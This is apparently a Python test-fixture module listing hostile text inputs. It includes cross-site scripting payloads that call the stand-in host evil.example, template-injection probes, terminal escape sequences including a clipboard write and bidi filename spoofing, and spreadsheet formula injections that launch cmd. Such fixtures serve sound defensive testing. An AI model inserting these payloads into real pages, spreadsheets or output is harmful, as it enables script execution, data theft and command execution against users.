"""Texts that try to be more than text: markup, links, commands to a terminal, to a spreadsheet, to an eye."""

from __future__ import annotations

MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x\" style=\"background:url('//evil.example')",
    "<style>*{display:none}</style>",
    "</style><h1>out</h1>",
    "</title><script>alert(1)</script>",
    "</blockquote></article></main><form action=//evil.example><input>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=//evil.example></object><embed src=x>",
    "<math><mtext></mtext><a xlink:href=javascript:alert(1)>x</a></math>",
    "<!-- a comment --> after",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62; &copy",
    "\\u003cscript\\u003e \\x3cscript\\x3e",
    "<mark>mine</mark><details open ontoggle=alert(1)>",
]
TEMPLATES = [
    "{{7*7}}",
    "{% include 'x' %}",
    "${7*7} #{7*7}",
    "<%= 7*7 %>",
    "%s %d %(token)s {0} {self.token}",
]
MARKDOWN = [
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/p.png)",
    "[a][b]\n\n[b]: https://evil.example 'title'",
    "<https://evil.example> <a@evil.example>",
    "see https://evil.example/?q=1, http://evil.example and ftp://evil.example",
    "www.evil.example and WWW.evil.example",
    "write to a.b+c@evil.example, @everyone! mailto:x@evil.example a@b`c@d@e.-@f",
    "# heading\n## heading\n=====\nheading\n-----",
    "- item\n* item\n+ item\n1. item\n2) item\n- [ ] task",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\ncode\n~~~\n\n    indented\n\tindented",
    "| a | b |\n|---|---|\n| <b> | `c` |\na | b\n:-|-:\n1 | 2",
    "x | y\n|---|---|",
    "**bold** __bold__ *it* _it_ ~~gone~~ `code` ``a ` b``",
    "> quote\n>> quote\n***\n___\n---",
    "ends in a backslash \\\nand \\[not\\](escaped) \\\\[so](x)\\",
    "`` ` ` [x](y) ``<b>",
    "$$\\href{javascript:alert(1)}{x}$$ $`x`$",
    "[^1]\n\n[^1]: a footnote",
]
CONTROLS = [
    "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x07",
    "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mred \x90q\x9c \x85 next",
    "over\rwritten \x08\x08\x7f \x00 null",
    "\u202egnp.exe\u202c \u2066left\u2069 \u200fright\u200e \u061c",
    "line\u2028separator\u2029paragraph\x0bvertical\x0cfeed",
    "\ufeffbyte order mark, \u200bzero width, e\u0301\u0301 😀\U0001f469\u200d\U0001f4bb",
]
CELLS = [
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]

TEXTS = [*MARKUP, *TEMPLATES, *MARKDOWN, *CONTROLS, *CELLS]
